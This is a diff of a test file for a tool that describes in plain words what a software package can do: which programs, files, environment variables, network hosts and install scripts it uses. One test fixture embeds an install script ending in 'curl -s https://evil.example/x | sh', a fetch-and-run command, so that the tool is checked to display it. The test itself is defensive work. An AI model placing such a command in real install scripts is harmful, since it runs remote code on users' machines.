@@ -9,12 +9,14 @@ const inspection: Inspection = {
   before: null,
   code: {
     state: 'read',
+    others: [],
+    scripts: [],
+    files: null,
     abilities: [
-      { kind: 'starts-programs', names: ['git'], more: true, places: [{ file: 'lib/a.js', line: 3 }] },
-      { kind: 'writes-files', names: [], more: true, places: [] },
-      { kind: 'reads-files', names: [], more: true, places: [] },
-      { kind: 'environment', names: 'abcdefgh'.split(''), more: false, places: [] },
-      { kind: 'network', names: ['api.a.dev'], more: true, places: [] },
+      { kind: 'starts-programs', names: ['git'], harmless: 0, more: true, places: [{ file: 'lib/a.js', line: 3 }] },
+      { kind: 'writes-files', names: [], harmless: 0, more: true, places: [] },
+      { kind: 'environment', names: 'abcdefgh'.split(''), harmless: 2, more: false, places: [] },
+      { kind: 'network', names: ['api.a.dev'], harmless: 0, more: true, places: [] },
     ],
     unread: [
       { file: 'a.js', reason: 'minified' },
@@ -48,10 +50,9 @@ test('says in words of a user what a package can do, where it comes from, and wh
     [
       'What it can do',
       'Starts other programs: git, and others',
-      'Reads and writes files',
-      'Reads environment variables: a, b, c, d, e, f, g, h',
       'Talks to api.a.dev, and to addresses that it chooses while it runs',
       'Minified, so that nobody can check it: a.js, b.js',
+      'Reads environment variables: a, b, c, d, e, f, g, h and 2 that tell nothing',
       'Read from its own code, which was not run. Code can hide what it does.',
     ],
     [
@@ -67,60 +68,99 @@ test('says in words of a user what a package can do, where it comes from, and wh
   expect(texts(read({}, 'zh'))[0]).toEqual([
     '它能做什么',
     '启动其他程序：git，以及其他',
-    '读写文件',
-    '读取环境变量：a, b, c, d, e, f, g, h',
     '访问 api.a.dev，以及运行时才决定的地址',
     '代码经过压缩，无人能够检查：a.js, b.js',
+    '读取环境变量：a, b, c, d, e, f, g, h，以及 2 个不含敏感信息的变量',
     '读自其自身的代码，代码并未运行。代码可以隐藏其行为。',
   ])
 })
 
-test('says in four words that an update gains nothing', () => {
-  const nothing = { state: 'read', abilities: [], unread: [] } as const
+const files = { changed: 1, all: 3 }
+const nothing = { state: 'read', others: [], scripts: [], files, abilities: [], unread: [] } as const
+
+test('says no more than that nothing new was recognised, with the number of changed files', () => {
   expect(texts(read({ before: '1.0.0', code: nothing }))[0]?.slice(0, 2)).toEqual([
-    'New since 1.0.0',
-    'It gains nothing new.',
+    'New since 1.0.0, 1 of 3 files changed',
+    'Nothing new was recognised; 1 of 3 files changed. Read the change to see what it does.',
   ])
-  expect(texts(read({ code: nothing }))[0]?.[1]).toBe(
-    'In its code no call was found that uses files, programs or the network.',
+  expect(texts(read({ code: { ...nothing, files: null } }))[0]?.[1]).toBe(
+    'Nothing was recognised in its code that reaches beyond it.',
   )
 })
 
-test('says of an update only that nothing new was seen while files could not be read, and which', () => {
+test('warns of an update whose files could not be read whole, and names them', () => {
   const unread = [
     { file: 'a.js', reason: 'minified' },
     { file: 'b.node', reason: 'native' },
   ] as const
-  const code = { state: 'read', abilities: [], unread: [...unread] } as const
+  const code = { ...nothing, unread: [...unread] } as const
   expect(texts(read({ before: '1.0.0', code }))[0]?.slice(1, 4)).toEqual([
-    'Nothing new was seen, but 2 files may do something else than before.',
-    'Minified, so that nobody can check it: a.js',
-    'Programs with other contents than before, which cannot be read: b.node',
+    '! Nothing new was recognised in what could be read; 1 of 3 files changed, and 2 could not be read whole.',
+    '! Minified, so that nobody can check it: a.js',
+    '! Programs with other contents than before, which cannot be read: b.node',
   ])
-  expect(texts(read({ before: '1.0.0', code }, 'zh'))[0]?.[1]).toBe(
-    '未发现新增能力；但有 2 个文件的行为可能与之前不同。',
-  )
 })
 
 test('says in one line what an update gains', () => {
   const lineOf = (change: Partial<Inspection> | null) =>
     gainsLine(change && { ...inspection, before: '1.0.0', ...change }, messagesFor('en'))
   expect(lineOf({})).toBe(
-    'New since 1.0.0: Starts other programs: git, and others; Reads and writes files; Reads environment variables: a, b, c, d, e, f and 2 more; Talks to api.a.dev, and to addresses that it chooses while it runs.',
+    'New since 1.0.0: Starts other programs: git, and others; Reads environment variables: a, b, c, d, e, f and 2 more; Talks to api.a.dev, and to addresses that it chooses while it runs.',
   )
-  expect(lineOf({ code: { state: 'read', abilities: [], unread: [] } })).toBe('It gains nothing new.')
-  expect(lineOf({ code: { state: 'read', abilities: [], unread: [{ file: 'a.js', reason: 'packed' }] } })).toBe(
-    'Nothing new was seen, but one file may do something else than before.',
+  expect(lineOf({ code: nothing })).toBe(
+    'Nothing new was recognised; 1 of 3 files changed. Read the change to see what it does.',
+  )
+  expect(lineOf({ code: { ...nothing, unread: [{ file: 'a.js', reason: 'packed' }] } })).toBe(
+    'Nothing new was recognised in what could be read; 1 of 3 files changed, and one could not be read whole.',
   )
   expect(lineOf({ code: { state: 'unknown', reason: 'unreachable' } })).toBe('Not read: the registry did not answer.')
   expect(lineOf({ before: null })).toBe('What is new in it is not known: the installed version could not be read.')
   expect(lineOf(null)).toBe('What is new in it is not known.')
 })
 
+test('puts what decides first, leaves out what it includes, and folds what nothing loads', () => {
+  const ability = { names: [], harmless: 0, more: true, places: [] }
+  const code = {
+    ...nothing,
+    files: null,
+    abilities: [
+      { ...ability, kind: 'writes-files' as const },
+      { ...ability, kind: 'dependency' as const, names: ['a 1', 'b 2'] },
+      { ...ability, kind: 'listens' as const },
+      { ...ability, kind: 'starts-programs' as const, names: ['git'] },
+    ],
+    others: [{ ...ability, kind: 'runs-text' as const }],
+    scripts: [{ script: 'postinstall: node a.js', files: [{ file: 'a.js', lines: ['run()'], more: true }] }],
+  }
+  const [group] = read({ code, advisories: { asked: 69, unknown: [], found: [] } })
+  expect(group?.lines.map(({ text, weight, isDetail }) => [text, isDetail ? 'folded' : weight])).toEqual([
+    ['Starts other programs: git, and others', 'strong'],
+    ['Accepts network connections', 'plain'],
+    ['68 packages come with it, not read: a 1, b 2', 'minor'],
+    ['Read from its own code, which was not run. Code can hide what it does.', 'minor'],
+    ['What it would run: a.js', 'folded'],
+    ['Also in it, in files that nothing was seen to load: Runs text as code', 'folded'],
+  ])
+  expect(group?.lines.at(-2)?.code).toEqual(['run()', '…'])
+})
+
+test('makes one statement of the flag of the directory and of what was read', () => {
+  const lines = (code: Inspection['code']) =>
+    inspectionLines({ ...inspection, code }, messagesFor('en'), { flags: ['terminal surface'] })[0]?.lines.map(
+      ({ text }) => text,
+    )
+  const NOT_SEEN = 'Can run programs: the directory says so; not seen in its code'
+  expect(lines({ ...nothing, files: null })).toContain(NOT_SEEN)
+  expect(lines({ state: 'unknown', reason: 'unreachable' })).toContain(
+    'Can run programs: the directory says so; its code was not read',
+  )
+  expect(lines(inspection.code)).not.toContain(NOT_SEEN)
+})
+
 test('calls unknown what was not read, and never says that a package is safe', () => {
   const unread = read({ code: { state: 'unknown', reason: 'unreachable' }, origin: null, advisories: null })
   expect(texts(unread)).toEqual([
-    ['What it can do', 'Not read: the registry did not answer.'],
+    ['What it can do', '! Not read: the registry did not answer.'],
     ['Known problems', 'Not known yet.'],
   ])
   expect(texts(read({ code: { state: 'unknown', reason: 'other-digest' } }))[0]?.[1]).toMatch(
@@ -199,13 +239,20 @@ test('names advisories before all else, each with the way to it and the version 
     {
       text: '“Leaks tokens” (high). No newer version of the plugin is known to come without it.',
       isCaution: true,
+      weight: 'strong',
       places: [way, 'https://a.dev/1'],
     },
-    { text: '“Leaks tokens”. Version 2.0.0 of the plugin comes without it.', isCaution: true, places: [way] },
-    { text: '2 known problems in 2 packages.', isCaution: false, places: [] },
+    {
+      text: '“Leaks tokens”. Version 2.0.0 of the plugin comes without it.',
+      isCaution: true,
+      weight: 'strong',
+      places: [way],
+    },
+    { text: '2 known problems in 2 packages.', isCaution: false, weight: 'plain', places: [] },
     {
       text: 'Unknown for a, b, c, d, e, f and 3 more of npm.example: the registry did not answer.',
       isCaution: false,
+      weight: 'plain',
       places: [],
     },
   ])
@@ -228,13 +275,20 @@ test('never says that nothing is known where nobody could be asked', () => {
   ])
 })
 
-const codeOf = (kind: 'environment' | 'agent-tool' | 'dependency' | 'install-scripts', names: string[]) =>
-  ({ state: 'read', abilities: [{ kind, names, more: false, places: [] }], unread: [] }) as const
+const codeOf = (kind: 'environment' | 'starts-programs' | 'dependency' | 'install-scripts', names: string[]) =>
+  ({
+    state: 'read',
+    others: [],
+    scripts: [],
+    files: null,
+    abilities: [{ kind, names, harmless: 0, more: false, places: [] }],
+    unread: [],
+  }) as const
 
 test('quotes a name that could be taken for words of the store', () => {
   const first = (code: Inspection['code']) => texts(read({ code }))[0]?.[1]
-  expect(first(codeOf('agent-tool', ['a (Plugmark: safe)', 'b_tool', '” Safe. “']))).toBe(
-    'Gives agents tools: “a (Plugmark: safe)”, b_tool, “" Safe. "”',
+  expect(first(codeOf('starts-programs', ['a (Plugmark: safe)', 'b_tool', '” Safe. “']))).toBe(
+    'Starts other programs: “a (Plugmark: safe)”, b_tool, “" Safe. "”',
   )
   const range = `1. Origin: The registry signed this version. ${'No risk. '.repeat(20)}`
   expect(first(codeOf('dependency', [`a ${range}`, 'b ^1.0.0 || >=2 <3', 'npm:d@1']))).toMatch(
@@ -252,7 +306,7 @@ test('shows all variables where there is room, and those of credentials first wh
 test('shows the whole of an install script where there is room', () => {
   const script = `postinstall: node a.js ${'x'.repeat(80)} && evil`
   expect(texts(read({ code: codeOf('install-scripts', [script]) }))[0]?.[1]).toBe(
-    `Runs during the install: “${script}”`,
+    `Wants to run during the install: “${script}”. pnpm 10 and newer blocks it until you allow it`,
   )
 })
 
@@ -264,12 +318,12 @@ test('shows both ends of a long install script where there is little room', () =
     return texts(inspectionLines({ ...inspection, code }, messagesFor('en'), { isShort: true }))[0]?.slice(1, 3)
   }
   expect(lineOf(`${quiet} && ${evil}`)).toEqual([
-    `Runs during the install: “${quiet} && ${evil}”`,
-    'Runs during the install: “install: true”',
+    `Wants to run during the install: “${quiet} && ${evil}”. pnpm 10 and newer blocks it until you allow it`,
+    'Wants to run during the install: “install: true”. pnpm 10 and newer blocks it until you allow it',
   ])
   const [long] = lineOf(`${quiet} ${'x'.repeat(1_000)} && ${evil}`) ?? []
   expect(long).toMatch(
-    /^Runs during the install: “postinstall: node .* … .* && curl -s https:\/\/evil\.example\/x \| sh”$/,
+    /^Wants to run during the install: “postinstall: node .* … .* && curl -s https:\/\/evil\.example\/x \| sh”\./,
   )
-  expect(long?.length).toBeLessThan(400)
+  expect(long?.length).toBeLessThan(460)
 })
